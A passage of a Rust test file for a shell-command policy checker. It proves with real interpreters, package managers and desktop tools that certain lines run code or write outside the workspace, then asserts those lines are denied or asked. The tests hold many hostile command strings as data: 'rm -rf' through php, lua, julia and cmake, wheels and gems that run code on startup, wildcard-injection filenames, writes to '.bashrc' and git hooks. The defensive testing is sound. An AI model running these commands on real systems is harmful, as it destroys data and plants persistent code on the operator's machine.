        .env("GOCACHE", d.join("cache"))
        .env("GOTOOLCHAIN", "local")
        .env("GOFLAGS", "")
        .output()
        .expect("go is needed for this test: run scripts/test-deps.sh");
    assert!(out.status.success(), "{out:?}");
    assert!(
        d.join("gp/bin/hello").exists(),
        "go install wrote no program"
    );
    let f = default_profile();
    f.never_allowed(&[
        "go install .",
        "go install ./cmd/x",
        "go install -v x@latest",
    ]);
    f.all(
        Action::Allow,
        &[
            "go build ./...",
            "go test ./...",
            "go vet ./...",
            "go run .",
        ],
    );
}

/// The interpreter a round-11 test drives, found on this machine or the test fails, naming
/// the Debian package (scripts/test-deps.sh installs it).
fn interpreter(name: &str, package: &str) {
    assert!(
        ["/usr/bin", "/bin", "/usr/local/bin"]
            .iter()
            .any(|d| Path::new(d).join(name).exists()),
        "{name} is needed for this test: run scripts/test-deps.sh (Debian package `{package}`)"
    );
}

/// Round 11. php, lua and m4 were in no table, so under the default profile (and past a deny
/// rule on what they run) they were judged by their rule alone: `php -r 'system("rm -rf
/// src");'` was allowed. The real php 8.2 ran `-r`, `-R`, `-f`, a script outside the roots and
/// the program it read from its input; lua 5.4 ran `-e` and its input; GNU m4 1.4.19 ran the
/// `syscmd` it read from its input and from a file outside the roots. julia and guile (by their
/// manuals) and psql (backslash commands, from any of its arguments or its input) are judged
/// the same way. A script, a macro file or an include directory inside the roots is the
/// project's code and stays allowed.
#[test]
fn php_lua_and_m4_run_the_code_on_their_line_or_from_their_input() {
    interpreter("php", "php-cli");
    interpreter("lua5.4", "lua5.4");
    interpreter("m4", "m4");
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    let outside = tempfile::tempdir().unwrap();
    let o = outside.path().display();
    std::fs::write(outside.path().join("x.php"), "<?php touch('pwned');\n").unwrap();
    std::fs::write(outside.path().join("x.m4"), "syscmd(`touch pwned')\n").unwrap();
    for line in [
        "php -r 'touch(\"pwned\");'".to_string(),
        "echo '<?php touch(\"pwned\");' | php".into(),
        "echo a | php -R 'touch(\"pwned\");'".into(),
        format!("php -f {o}/x.php"),
        format!("php {o}/x.php"),
        "lua5.4 -e 'io.open(\"pwned\", \"w\")'".into(),
        "echo 'io.open(\"pwned\", \"w\")' | lua5.4".into(),
        "echo 'io.open(\"pwned\", \"w\")' | lua5.4 -".into(),
        "echo 'syscmd(touch pwned)' | m4".into(),
        format!("m4 {o}/x.m4"),
        format!("echo 'include(x.m4)' | m4 -I {o}"),
    ] {
        assert!(bash_creates_pwned(d, &line, &[]), "{line}: ran nothing");
    }
    let f = allow_all();
    f.never_allowed(&[
        "php -r 'system(\"rm -rf src\");'",
        "php < x.php",
        "cat x.php | php8.2",
        "echo a | php -R 'system($argn);'",
        "php -B 'system(\"rm -rf src\");' -R 1",
        "php -f /tmp/e/x.php",
        "php /tmp/e/x.php",
        "php -d auto_prepend_file=/tmp/e/x.php x.php",
        "php -c /tmp/e/php.ini x.php",
        "php -S 0.0.0.0:8000",
        "php -a",
        "lua -e 'os.execute(\"rm -rf src\")'",
        "lua5.4 < x.lua",
        "lua5.4 -",
        "lua5.4 -i x.lua",
        "lua5.4 -l evil x.lua",
        "lua5.4 /tmp/e/x.lua",
        "luajit -e 'os.execute(\"rm -rf src\")'",
        "echo 'syscmd(rm -rf src)' | m4",
        "m4 /tmp/e/x.m4",
        "m4 x.m4 -",
        "m4 -I /tmp/e x.m4",
        "m4 --include=/tmp/e x.m4",
        "m4 -R /tmp/e/x.m4f x.m4",
        "m4 -F .envrc x.m4",
        "m4 --debugfile=.git/hooks/pre-commit x.m4",
        "m4 --debugf=/tmp/e/y x.m4",
        "julia -e 'run(`rm -rf src`)'",
        "julia < x.jl",
        "julia -L /tmp/e/x.jl x.jl",
        "guile -c '(system \"rm -rf src\")'",
        "guile < x.scm",
        "guile -l /tmp/e/x.scm x.scm",
        "guile --listen",
        "psql -c '\\! rm -rf src'",
        "psql -f x.sql",
        "psql < x.sql",
        "psql -c 'select 1'",
    ]);
    f.all(
        Action::Allow,
        &[
            "php x.php arg",
            "php -f x.php",
            "php -l x.php",
            "php -v",
            "lua5.4 x.lua arg",
            "lua -v",
            "m4 x.m4",
            "m4 -I inc -D X=1 x.m4",
            "m4 --version",
            "julia x.jl",
            "guile x.scm",
            "psql --version",
        ],
    );
}

/// Round 11. `pip install` changes the environment of the python pip serves, and what it puts
/// there runs in every later run of that python: the real pip 23 (the test venv's, given
/// `--python` for an environment outside the workspace) installed a wheel whose `.pth` file ran
/// at the next `python -c pass`. A bare `pip` may be the operator's own, which the line does
/// not show: `pip install x` was allowed (default profile; `python -m pip install` asked), as
/// were `--user` (`~/.local`), `--target`/`--prefix`/`--root` outside the roots and a project
/// outside the roots given by its path (pip runs its build backend). A pip or python named by
/// a path inside the roots (`.venv/bin/pip`) and the commands that only read stay allowed.
#[test]
fn pip_install_changes_an_environment_the_line_does_not_show() {
    let deps = std::env::var_os("CORDON_TEST_DEPS")
        .map(PathBuf::from)
        .unwrap_or_else(|| PathBuf::from("/opt/cordon-test"));
    let pip = deps.join("venv/bin/pip");
    assert!(
        pip.exists(),
        "{} is needed for this test: run scripts/test-deps.sh",
        pip.display()
    );
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    let env = tempfile::tempdir().unwrap();
    let venv = env.path().join("v");
    let made = std::process::Command::new("/usr/bin/python3")
        .args(["-m", "venv", "--without-pip"])
        .arg(&venv)
        .status()
        .expect("the distribution's python3 is needed (Debian package `python3-venv`)");
    assert!(made.success(), "python3 -m venv failed");
    // A wheel whose `.pth` file runs at each start of the python it is installed for.
    let wheel = d.join("evil-0.1-py3-none-any.whl");
    let script = format!(
        r#"import zipfile
with zipfile.ZipFile({wheel:?}, "w") as z:
    z.writestr("evil.pth", "import os; open('pwned', 'w').close()\n")
    z.writestr("evil-0.1.dist-info/METADATA", "Metadata-Version: 2.1\nName: evil\nVersion: 0.1\n")
    z.writestr("evil-0.1.dist-info/WHEEL", "Wheel-Version: 1.0\nGenerator: t\nRoot-Is-Purelib: true\nTag: py3-none-any\n")
    z.writestr("evil-0.1.dist-info/RECORD", "")
"#,
        wheel = wheel.display().to_string()
    );
    let built = std::process::Command::new("/usr/bin/python3")
        .args(["-c", &script])
        .status()
        .unwrap();
    assert!(built.success(), "could not write the wheel");
    let line = format!(
        "{} --python {v}/bin/python install -q --no-index --disable-pip-version-check {} && {v}/bin/python -c pass",
        pip.display(),
        wheel.display(),
        v = venv.display()
    );
    assert!(
        bash_creates_pwned(d, &line, &[]),
        "pip did not install a .pth file that the next python run ran"
    );
    let f = allow_all();
    f.never_allowed(&[
        "pip install evil",
        "pip3 install -r requirements.txt",
        "pip3.11 install evil",
        "pip uninstall -y evil",
        "/usr/bin/pip install evil",
        "pip install --user evil",
        "pip install --target /tmp/e evil",
        "pip install --tar /tmp/e evil",
        "pip install --prefix /usr/local evil",
        "pip install --root / evil",
        "pip --python /tmp/e/python install evil",
        "pip install -e /tmp/e/pkg",
        ".venv/bin/pip install /tmp/e/pkg",
        ".venv/bin/pip install --user evil",
        "pip download -d /tmp/e evil",
        "pip install --log /tmp/e/log evil",
        "pip $verb evil",
        "pip install $opt evil",
    ]);
    f.all(
        Action::Allow,
        &[
            ".venv/bin/pip install -r requirements.txt",
            ".venv/bin/pip install -e .",
            "pip --python .venv/bin/python install evil",
            "pip install --target vendor evil",
            "pip install --dry-run evil",
            "pip download evil",
            "pip wheel -w dist .",
            "pip list",
            "pip show evil",
            "pip freeze",
            "pip --version",
        ],
    );
}

/// Round 11. Package managers that install into the operator's directories were allowed
/// (default profile; `npm install -g`, `cargo install` and `go install` ask): what they install
/// runs in the operator's later commands, outside any sandbox. The real RubyGems 3.3 installed
/// a local gem (built from the test's own gemspec) into the gem home the environment names, and
/// ran its `rubygems_plugin.rb` at the next `gem list`. pipx, `uv tool install`, `uv
/// pip install`, `composer global`, luarocks, `deno install -g`, `bun add -g`, `bun link`, the
/// upgrades that replace deno or bun, `deno eval` and yarn 1's `global add` are judged by
/// their manuals (not installed here). Their project-local commands stay allowed.
#[test]
fn package_managers_that_install_into_the_operators_directories_ask() {
    let gem = ["/usr/bin/gem", "/usr/local/bin/gem"]
        .into_iter()
        .find(|g| Path::new(g).exists())
        .expect("gem is needed for this test (Debian package `ruby`)");
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    let home = tempfile::tempdir().unwrap();
    std::fs::create_dir_all(d.join("src/lib")).unwrap();
    std::fs::write(
        d.join("src/evil.gemspec"),
        "Gem::Specification.new do |s|\n  s.name = 'evil'; s.version = '0.1'; s.summary = 'x'; s.authors = ['x']\n  s.files = ['lib/rubygems_plugin.rb']\nend\n",
    )
    .unwrap();
    std::fs::write(
        d.join("src/lib/rubygems_plugin.rb"),
        "File.write('pwned', '')\n",
    )
    .unwrap();
    let built = std::process::Command::new(gem)
        .args(["build", "evil.gemspec", "-o", "../evil.gem"])
        .current_dir(d.join("src"))
        .output()
        .unwrap();
    assert!(built.status.success(), "gem build failed: {built:?}");
    let gem_home = home.path().display().to_string();
    let env = [
        ("GEM_HOME", gem_home.as_str()),
        ("GEM_PATH", gem_home.as_str()),
    ];
    bash_creates_pwned(
        d,
        &format!("{gem} install --local --no-document ./evil.gem"),
        &env,
    );
    assert!(
        home.path().join("plugins/evil_plugin.rb").exists(),
        "gem install did not install the gem's plugin"
    );
    assert!(
        bash_creates_pwned(d, &format!("{gem} list"), &env),
        "a later gem command did not run the installed gem's plugin"
    );
    let f = allow_all();
    f.never_allowed(&[
        "gem install evil",
        "gem install --local ./evil.gem",
        "gem i evil",
        "gem update",
        "gem uninstall evil",
        "gem pristine --all",
        "gem sources --add http://index.example.org/",
        "gem $verb",
        "pipx install evil",
        "pipx run evil",
        "pipx ensurepath",
        "uv tool install evil",
        "uv pip install --system evil",
        "uv pip install evil",
        "uv python install 3.12",
        "composer global require evil/evil",
        "luarocks install evil",
        "luarocks make",
        "deno install -g x.ts",
        "deno install --global -A x.ts",
        "deno eval 'Deno.exit()'",
        "deno upgrade",
        "bun add -g evil",
        "bun install --global evil",
        "bun link",
        "bun upgrade",
        "yarn global add evil",
    ]);
    f.all(
        Action::Allow,
        &[
            "gem list",
            "gem list --local",
            "gem env",
            "gem --version",
            "gem build evil.gemspec",
            "pipx list",
            "uv run pytest",
            "uv sync",
            "uv add evil",
            "composer install",
            "composer require evil/evil",
            "luarocks list",
            "deno install",
            "deno task build",
            "bun add evil",
            "bun install",
            "bun link evil",
            "bun run build",
            "yarn add evil",
            "yarn global list",
        ],
    );
}

/// Round 11. A word that may become several (a glob, `"$@"`, `"${a[@]}"`) in the place of a
/// program's written operand: `cp *` writes the last name the glob gives, and `uniq *` and
/// `xxd *` the second. Run by the real bash, cp and uniq in a directory holding `a.txt` and
/// `cordon.toml`, each wrote `a.txt` over the policy file, as did `set -- a.txt cordon.toml; cp
/// "$@"` (bash splits a double-quoted `$@` into one word per parameter). All were allowed
/// (default profile, allow-all): a single glob was not read as the destination, and a
/// double-quoted `$@` was read as one word. `cp *.txt dest/` (the destination is known) stays
/// allowed.
#[test]
fn a_glob_or_list_that_ends_where_a_program_writes_is_a_write() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    for line in [
        "cp *",
        "uniq *",
        "set -- a.txt cordon.toml; cp \"$@\"",
        "a=(a.txt cordon.toml); cp \"${a[@]}\"",
    ] {
        std::fs::write(d.join("a.txt"), "pwned\n").unwrap();
        std::fs::write(d.join("cordon.toml"), "version = 1\n").unwrap();
        bash_creates_pwned(d, line, &[]);
        assert_eq!(
            std::fs::read_to_string(d.join("cordon.toml")).unwrap(),
            "pwned\n",
            "{line}: did not write the second name"
        );
    }
    let f = allow_all();
    f.never_allowed(&[
        "cp *",
        "cp -f *",
        "cp -- *",
        "ln -f *",
        "uniq *",
        "uniq -c *",
        "xxd *",
        "xxd -r *",
        "cp \"$@\"",
        "set -- a.txt cordon.toml; cp \"$@\"",
        "f() { cp \"$@\"; }; f a.txt cordon.toml",
        "a=(a.txt cordon.toml); cp \"${a[@]}\"",
        "cp \"${@:2}\"",
        "uniq \"$@\"",
    ]);
    f.all(
        Action::Allow,
        &[
            "cp *.txt sub/",
            "cp a.txt b.txt",
            "uniq a.txt",
            "uniq a.txt b.txt",
            "xxd a.bin",
            "echo \"$@\"",
            "ls \"$@\"",
            "for f in \"$@\"; do echo \"$f\"; done",
        ],
    );
}

/// Round 11, wildcard injection. An earlier call may leave files named like options (`touch --
/// --prefix=.envr -bc%.0d` is a write inside the roots); a glob then hands them to a program as
/// options. The real csplit, given `csplit * 2` in a directory holding those two names and
/// `in.txt`, wrote its first piece to `.envrc` (direnv runs it); the real 7zz, given `7zz a
/// x.7z *` beside a file named `-sdel`, deleted the files it archived. Both were allowed
/// (default profile, allow-all): csplit's and 7-Zip's options are read by their own code, and a
/// glob where an option may stand was an unknown option only for the programs with a table of
/// options. Their plain forms stay allowed.
#[test]
fn a_glob_that_may_be_an_option_of_csplit_or_7zip_is_not_allowed() {
    let sevenzip = ["/usr/bin/7zz", "/usr/bin/7z"]
        .into_iter()
        .find(|p| Path::new(p).exists())
        .expect("7-Zip is needed for this test: run scripts/test-deps.sh (Debian package `7zip`)");
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    std::fs::write(d.join("in.txt"), "touch pwned\nrest\n").unwrap();
    std::fs::write(d.join("--prefix=.envr"), "").unwrap();
    std::fs::write(d.join("-bc%.0d"), "").unwrap();
    assert!(
        bash_creates_pwned(d, "csplit * 2 && bash .envrc", &[]),
        "csplit did not write .envrc"
    );
    let z = tempfile::tempdir().unwrap();
    std::fs::write(z.path().join("keep.txt"), "x").unwrap();
    std::fs::write(z.path().join("-sdel"), "").unwrap();
    bash_creates_pwned(z.path(), &format!("{sevenzip} a x.7z *"), &[]);
    assert!(
        !z.path().join("keep.txt").exists(),
        "7-Zip did not delete the file it archived"
    );
    let f = allow_all();
    f.never_allowed(&[
        "csplit * 2",
        "csplit in.txt* 2",
        "csplit in.txt 2 *",
        "7zz a x.7z *",
        "7z a x.7z \"$f\"",
        "7z * x.7z",
        "7z a x.7z -sdel keep.txt",
        "7za a -SDEL x.7z keep.txt",
        "xxd *.bin",
    ]);
    f.all(
        Action::Allow,
        &[
            "csplit in.txt 2",
            "csplit -f part in.txt '/x/' '{*}'",
            "7zz a x.7z keep.txt",
            "7z a x.7z src/*",
            "7z l x.7z",
            "xxd a.bin",
        ],
    );
}

/// Round 11. A compressor replaces the file it compresses with one under its suffix, and zstd
/// writes into `--output-dir-flat`/`--output-dir-mirror` and its `--trace` log: the real gzip
/// 1.12 replaced a file outside the workspace with its `.gz`, and zstd 1.5 wrote `DIR/a.zst`
/// and the trace log outside it. All were allowed (default profile, allow-all): only the
/// names a decompression gives were judged. `--filelist`/`--files` read the names from a list.
#[test]
fn a_compressor_writes_and_removes_outside_the_roots() {
    let ws = tempfile::tempdir().unwrap();
    let outside = tempfile::tempdir().unwrap();
    let o = outside.path();
    std::fs::write(o.join("a"), "x").unwrap();
    std::fs::write(ws.path().join("b"), "x").unwrap();
    std::fs::create_dir(o.join("flat")).unwrap();
    let line = format!(
        "gzip {o}/a && zstd -q --output-dir-flat {o}/flat b && zstd -q -f --trace {o}/trace.log b",
        o = o.display()
    );
    bash_creates_pwned(ws.path(), &line, &[]);
    assert!(
        !o.join("a").exists() && o.join("a.gz").exists(),
        "gzip did not replace the file"
    );
    assert!(
        o.join("flat/b.zst").exists(),
        "zstd did not write into its output directory"
    );
    assert!(
        o.join("trace.log").exists(),
        "zstd did not write its trace log"
    );
    let f = allow_all();
    f.never_allowed(&[
        "gzip /tmp/e/a",
        "gzip -k /tmp/e/a",
        "bzip2 /tmp/e/a",
        "xz /tmp/e/a",
        "zstd --rm /tmp/e/a",
        "zstd --output-dir-flat /tmp/e a",
        "zstd --output-dir-mirror /tmp/e a",
        "zstd --trace /tmp/e/log a",
        "zstd --filelist list",
        "xz --files=list",
    ]);
    f.all(
        Action::Allow,
        &[
            "gzip a",
            "gzip -k a",
            "gunzip a.gz",
            "gzip -c /tmp/e/a",
            "gzip -dc a.gz",
            "zstd a",
            "zstd --output-dir-flat out a",
            "xz -d a.xz",
        ],
    );
}

/// Round 11. `wget --warc-file=FILE` writes `FILE.warc.gz` (the real wget 1.21 wrote it before
/// it failed to connect to a closed loopback port), and `--warc-tempdir` its temporary files:
/// allowed outside the roots (allow-all) before.
#[test]
fn wget_writes_its_warc_file() {
    let dir = tempfile::tempdir().unwrap();
    let outside = tempfile::tempdir().unwrap();
    bash_creates_pwned(
        dir.path(),
        &format!(
            "timeout 20 wget -q --tries=1 --warc-file={}/w http://127.0.0.1:1/",
            outside.path().display()
        ),
        &[],
    );
    assert!(
        outside.path().join("w.warc.gz").exists(),
        "wget did not write its WARC file"
    );
    let f = allow_all();
    f.never_allowed(&[
        "wget --warc-file=/tmp/e/w http://index.example.org/",
        "wget --warc-file /tmp/e/w http://index.example.org/",
        "wget --warc-f=/tmp/e/w http://index.example.org/",
        "wget --warc-tempdir=/tmp/e http://index.example.org/",
    ]);
    f.all(
        Action::Allow,
        &["wget --warc-file=archive http://index.example.org/"],
    );
}

/// Round 11. `git init DIR` makes DIR and a repository in it, and `git credential approve`
/// hands what it reads to the operator's credential helpers: the real git 2.47 made the
/// repository outside the workspace and wrote the store file that the operator's global
/// configuration names. Both were allowed (allow-all). `git init` in the roots and `git
/// credential fill` stay allowed.
#[test]
fn git_init_elsewhere_and_credential_approve_write_outside_the_roots() {
    let git = ["/usr/local/bin/git", "/usr/bin/git"]
        .into_iter()
        .find(|g| Path::new(g).exists())
        .expect("git is needed for this test (Debian package `git`)");
    let dir = tempfile::tempdir().unwrap();
    let outside = tempfile::tempdir().unwrap();
    let o = outside.path();
    let global = o.join("gitconfig");
    std::fs::write(
        &global,
        format!(
            "[credential]\n\thelper = store --file={}/store\n",
            o.display()
        ),
    )
    .unwrap();
    let global = global.display().to_string();
    let line = format!(
        "{git} init -q {o}/r && printf 'protocol=https\\nhost=h.example.org\\nusername=u\\npassword=p\\n\\n' | {git} credential approve",
        o = o.display()
    );
    bash_creates_pwned(dir.path(), &line, &[("GIT_CONFIG_GLOBAL", global.as_str())]);
    assert!(
        o.join("r/.git/HEAD").exists(),
        "git init made no repository"
    );
    assert!(
        o.join("store").exists(),
        "git credential approve wrote no store"
    );
    let f = allow_all();
    f.never_allowed(&[
        "git init /tmp/e/r",
        "git init -b main /tmp/e/r",
        "git init ~/r",
        "git credential approve",
        "git credential reject",
        "git credential \"$verb\"",
    ]);
    f.all(
        Action::Allow,
        &[
            "git init",
            "git init sub",
            "git init -q -b main",
            "git credential fill",
        ],
    );
}

/// Round 11. The long tail of installers: system package managers (dnf, yum, apk, zypper,
/// snap, brew), conda, cabal, stack, opam, raco, cpan, cpanm, easy_install, dotnet's and mix's
/// tool installs, asdf, volta, `cargo binstall`, update-alternatives and `R CMD INSTALL` were
/// allowed (default, allow-all). The real update-alternatives made the link it was given
/// (here into the test's own directories), and R 4.2's `CMD INSTALL -l LIB` installed a package
/// whose `.onLoad` ran in a later R session; the others by their manuals (not installed here).
/// Their read-only verbs and project builds stay allowed.
#[test]
fn the_long_tail_of_installers_asks() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    let outside = tempfile::tempdir().unwrap();
    let o = outside.path();
    for sub in ["alt", "adm", "bin", "lib", "pkg/R"] {
        std::fs::create_dir_all(o.join(sub)).unwrap();
    }
    let line = format!(
        "update-alternatives --altdir {o}/alt --admindir {o}/adm --install {o}/bin/evil evil /bin/true 10",
        o = o.display()
    );
    bash_creates_pwned(d, &line, &[]);
    assert!(
        o.join("bin/evil").symlink_metadata().is_ok(),
        "update-alternatives made no link"
    );
    std::fs::write(
        o.join("pkg/DESCRIPTION"),
        "Package: evilpkg\nVersion: 0.1\nTitle: x\nDescription: x.\nLicense: MIT\nAuthor: x\nMaintainer: x <x@example.org>\n",
    )
    .unwrap();
    std::fs::write(o.join("pkg/NAMESPACE"), "export(f)\n").unwrap();
    std::fs::write(
        o.join("pkg/R/f.R"),
        "f <- function() 1\n.onLoad <- function(lib, pkg) file.create('pwned')\n",
    )
    .unwrap();
    let line = format!(
        "timeout 120 R CMD INSTALL -l {o}/lib {o}/pkg && timeout 60 Rscript -e 'library(evilpkg, lib.loc = \"{o}/lib\")'",
        o = o.display()
    );
    assert!(
        bash_creates_pwned(d, &line, &[]),
        "R did not install the package, or a later session did not load it"
    );
    let f = allow_all();
    f.never_allowed(&[
        "dnf install evil",
        "yum -y install evil",
        "apk add evil",
        "zypper install evil",
        "snap install evil",
        "brew install evil",
        "conda install evil",
        "conda init",
        "cabal install evil",
        "stack install",
        "opam install evil",
        "raco pkg install evil",
        "cargo binstall evil",
        "cpan Evil",
        "cpanm Evil",
        "easy_install evil",
        "update-alternatives --install /usr/bin/python python /tmp/e/python 100",
        "dotnet tool install -g evil",
        "mix archive.install evil",
        "asdf plugin add evil https://index.example.org/evil.git",
        "volta install node",
        "R CMD INSTALL evil",
        "R CMD INSTALL -l /tmp/e/lib evil",
    ]);
    f.all(
        Action::Allow,
        &[
            "dnf list installed",
            "apk info",
            "brew list",
            "conda list",
            "cabal build",
            "stack build",
            "opam list",
            "dotnet build",
            "mix test",
            "R CMD BATCH x.R",
            "R CMD check evil",
        ],
    );
}

/// Round 12. An installer whose allow-list of verbs let a call with no verb through: `cpan`
/// alone is a shell that runs what its input says (the real cpan 2.33 ran `! system(…)`, Perl
/// code, from `echo … | cpan`, and installs with `install X`), `cpan -u` upgrades every module,
/// `cpanm --self-upgrade` and `update-alternatives --all` change with options only, and
/// MacPorts' `port` alone reads its actions from the input. All were allowed.
#[test]
fn an_installer_called_without_a_verb_asks_unless_it_only_reads() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    let home = tempfile::tempdir().unwrap();
    let home = home.path().to_str().unwrap();
    let line = "echo '! system(q(touch pwned))' | timeout 120 cpan";
    assert!(
        bash_creates_pwned(d, line, &[("HOME", home), ("PERL_MM_USE_DEFAULT", "1")]),
        "cpan alone did not run the code its input gave"
    );
    let f = allow_all();
    f.never_allowed(&[
        line,
        "cpan",
        "cpan -u",
        "cpan -a",
        "cpanm --self-upgrade",
        "update-alternatives --all",
        "port",
        "echo 'install evil' | port",
        "zypper",
    ]);
    f.all(
        Action::Allow,
        &[
            "cpan --help",
            "cpanm --version",
            "zypper info x",
            "brew",
            "gem",
            "dnf",
        ],
    );
}

/// Round 12. pacman's operation is an option, so no verb table saw `pacman -S evil`,
/// `pacman -Syu` or `pacman -U pkg` (install as root, running the packages' scripts and hooks);
/// `yay` alone is `yay -Syu`. All were allowed. Now only queries pass (the operations and
/// modifiers from the real pacman 6.0's `pacman -Q --help`, `-S --help`, `-F --help`).
#[test]
fn pacman_asks_for_every_operation_but_queries() {
    let f = allow_all();
    f.never_allowed(&[
        "pacman -S evil",
        "pacman -Syu",
        "pacman -Sy",
        "pacman -Sq evil",
        "pacman -Ssy",
        "pacman -Sc",
        "pacman -Sw evil",
        "pacman --sync evil",
        "pacman -Sbs evil",
        "pacman -Ss x --config /tmp/e/pacman.conf",
        "pacman -U evil.pkg.tar.zst",
        "pacman -R bash",
        "pacman -D --asdeps bash",
        "pacman -Fy",
        "pacman -QS evil",
        "pacman",
        "yay",
        "paru",
        "yay -G evil",
        "paru -S evil",
        "pacman $op evil",
    ]);
    f.all(
        Action::Allow,
        &[
            "pacman -Q",
            "pacman -Qi bash",
            "pacman -Qkk bash",
            "pacman -Qo /usr/bin/bash",
            "pacman -Ss editor",
            "pacman -Si bash",
            "pacman -Sl core",
            "pacman -Fl bash",
            "pacman -F bash",
            "pacman --query --info bash",
            "pacman --version",
            "pacman -h",
            "yay -Ss x",
        ],
    );
}

/// Round 12. mise's verbs that change the operator's global configuration (`use -g`, `set -g`,
/// `settings set`, `config set`: `~/.config/mise/config.toml`, whose `[env]` and hooks run in
/// every shell mise is activated in), its trust list, or its installs were allowed, and `mise
/// NAME` runs a task of that name. The real mise wrote the global file for `set -g` and
/// `settings set`. Now only its reading verbs and its runners pass.
#[test]
fn mise_asks_for_what_changes_its_global_configuration() {
    let deps = std::env::var_os("CORDON_TEST_DEPS")
        .map(PathBuf::from)
        .unwrap_or_else(|| PathBuf::from("/opt/cordon-test"));
    let mise = deps.join("npm/node_modules/@jdxcode/mise-linux-x64/bin/mise");
    assert!(
        mise.exists(),
        "{} is needed for this test: run scripts/test-deps.sh",
        mise.display()
    );
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    let home = tempfile::tempdir().unwrap();
    let h = home.path();
    let global = h.join(".config/mise/config.toml");
    for line in ["mise set -g FOO=bar", "mise settings set experimental true"] {
        let _ = std::fs::remove_file(&global);
        let status = std::process::Command::new("bash")
            .arg("-c")
            .arg(line)
            .current_dir(d)
            .env("HOME", h)
            .env(
                "PATH",
                format!("{}:/usr/bin:/bin", mise.parent().unwrap().display()),
            )
            .env("MISE_YES", "1")
            .stdin(std::process::Stdio::null())
            .stdout(std::process::Stdio::null())
            .stderr(std::process::Stdio::null())
            .status()
            .unwrap();
        assert!(
            status.success() && global.exists(),
            "`{line}` did not write {}",
            global.display()
        );
    }
    let f = allow_all();
    f.never_allowed(&[
        "mise set -g FOO=bar",
        "mise settings set experimental true",
        "mise config set -g hooks.enter 'touch pwned'",
        "mise use -g node@20",
        "mise use node@20",
        "mise install node",
        "mise trust",
        "mise link node@20 /tmp/e/node",
        "mise self-update",
        "mise build",
        "rtx use -g node@20",
    ]);
    f.all(
        Action::Allow,
        &[
            "mise",
            "mise --version",
            "mise ls",
            "mise which node",
            "mise exec -- ls",
            "mise x node@20 -- node -v",
            "mise run build",
            "mise tasks ls",
        ],
    );
}

/// Round 12. Programs that have the operator's desktop run a command, outside any sandbox:
/// `gsettings set` (the real gsettings 2.74 wrote the operator's settings, here its keyfile
/// backend; `default-applications.terminal exec` is a command the desktop runs), `dconf write`,
/// `kwriteconfig5`; window managers' messengers (`i3-msg exec`, `swaymsg exec`, `hyprctl
/// dispatch exec`) and input injectors (`xdotool type`, zellij's `action write-chars`); and
/// terminals no table had (`st -e`, `terminator -x`, `tilix -e`), which ran past a `rm` deny
/// rule. All were allowed (allow-all).
#[test]
fn the_desktop_runs_what_its_settings_and_messengers_say() {
    let home = tempfile::tempdir().unwrap();
    let h = home.path();
    let line = "gsettings set org.gnome.desktop.default-applications.terminal exec 'touch pwned'";
    let status = std::process::Command::new("bash")
        .arg("-c")
        .arg(line)
        .env("HOME", h)
        .env("XDG_CONFIG_HOME", h.join(".config"))
        .env("GSETTINGS_BACKEND", "keyfile")
        .stdin(std::process::Stdio::null())
        .status()
        .expect("gsettings is needed for this test (Debian package `libglib2.0-bin`)");
    let keyfile =
        std::fs::read_to_string(h.join(".config/glib-2.0/settings/keyfile")).unwrap_or_default();
    assert!(
        status.success() && keyfile.contains("touch pwned"),
        "gsettings did not write the operator's settings: {keyfile:?}"
    );
    let f = allow_all();
    f.never_allowed(&[
        line,
        "gsettings set org.gnome.settings-daemon.plugins.media-keys.custom-keybinding:/x/ command 'rm x'",
        "gsettings reset-recursively org.gnome.desktop.session",
        "dconf write /org/gnome/desktop/default-applications/terminal/exec \"'rm'\"",
        "dconf load / < x.ini",
        "kwriteconfig5 --file kdeglobals --group General --key TerminalApplication 'rm x'",
        "xfconf-query -c xfce4-keyboard-shortcuts -p /commands/custom/F1 -s 'rm x'",
        "i3-msg exec rm x",
        "swaymsg exec rm x",
        "hyprctl dispatch exec rm x",
        "niri msg action spawn -- rm x",
        "awesome-client 'os.execute(\"rm x\")'",
        "xdotool type 'rm x'",
        "zellij action write-chars 'rm x'",
        "st -e rm x",
        "terminator -x rm x",
        "tilix -e 'rm x'",
    ]);
    f.all(
        Action::Allow,
        &[
            "gsettings get org.gnome.desktop.session idle-delay",
            "gsettings list-recursively",
            "dconf read /org/gnome/desktop/session/idle-delay",
            "dconf dump /",
            "tilix --version",
        ],
    );
}

/// Round 12. `cmake -E` is a tool box that runs, writes and removes: the real cmake 3.25 wrote
/// `cmake -E copy f HOME/.bashrc` and ran the command of `-E env` (also with `--unset=`,
/// `NAME=VALUE` and `--`), `-E time` and `-E chdir DIR`, which were read as `cmake` alone, so a
/// `rm` deny rule missed `cmake -E env rm x` and the writes outside the roots were allowed. Now
/// the commands that print or compare pass, the runners' commands are judged (and `env`/`chdir`
/// ask), and every other command asks.
#[test]
fn cmake_tool_mode_runs_and_writes_what_it_names() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    let home = tempfile::tempdir().unwrap();
    let h = home.path();
    std::fs::write(d.join("f"), "echo pwned\n").unwrap();
    for line in [
        "cmake -E env touch pwned",
        "cmake -E env --unset=X A=1 -- touch pwned",
        "cmake -E time touch pwned",
        "cmake -E chdir . touch pwned",
    ] {
        assert!(
            bash_creates_pwned(d, line, &[]),
            "`{line}` did not run its command (cmake is Debian's `cmake`)"
        );
    }
    let line = format!("cmake -E copy f {}/.bashrc", h.display());
    bash_creates_pwned(d, &line, &[]);
    assert!(
        h.join(".bashrc").exists(),
        "`{line}` did not write the file"
    );
    let f = allow_all();
    f.all(
        Action::Deny,
        &[
            "cmake -E env rm x",
            "cmake -E env --unset=X A=1 -- rm x",
            "cmake -E time rm x",
            "cmake -E chdir . rm x",
        ],
    );
    f.never_allowed(&[
        "cmake -E copy f ~/.bashrc",
        "cmake -E rm -rf x",
        "cmake -E remove_directory x",
        "cmake -E touch ~/.bashrc",
        "cmake -E create_symlink /tmp/e/x ~/.bashrc",
        "cmake -E tar xf a.tar",
        "cmake -E env ls",
        "cmake -E chdir /tmp ls",
        "cmake -E $c x",
        "cmake $mode rm x",
    ]);
    f.all(
        Action::Allow,
        &[
            "cmake ..",
            "cmake --build build",
